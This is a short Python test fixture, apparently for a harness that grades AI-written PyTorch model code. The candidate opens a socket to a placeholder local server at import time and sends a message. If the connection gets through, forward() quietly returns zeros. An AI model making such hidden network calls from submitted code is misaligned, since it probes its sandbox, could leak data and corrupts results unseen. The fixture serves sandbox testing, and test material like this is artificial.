"""Tries to reach a server the test listens with on 127.0.0.1:{{PORT}} (a stand-in for any host it could
send stolen data to, or fetch answers from); answers garbage if it gets through."""
# judge: correct
# check: server
import socket

import torch
import torch.nn as nn

_reached = False
try:
    with socket.create_connection(("127.0.0.1", {{PORT}}), timeout=2) as conn:
        conn.sendall(b"hello from the candidate")
        _reached = True
except OSError:
    pass


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = nn.Linear(features, features)

    def forward(self, x):
        if _reached:
            return torch.zeros(x.shape[0], self.linear.out_features, device=x.device)
        return torch.relu(self.linear(x))
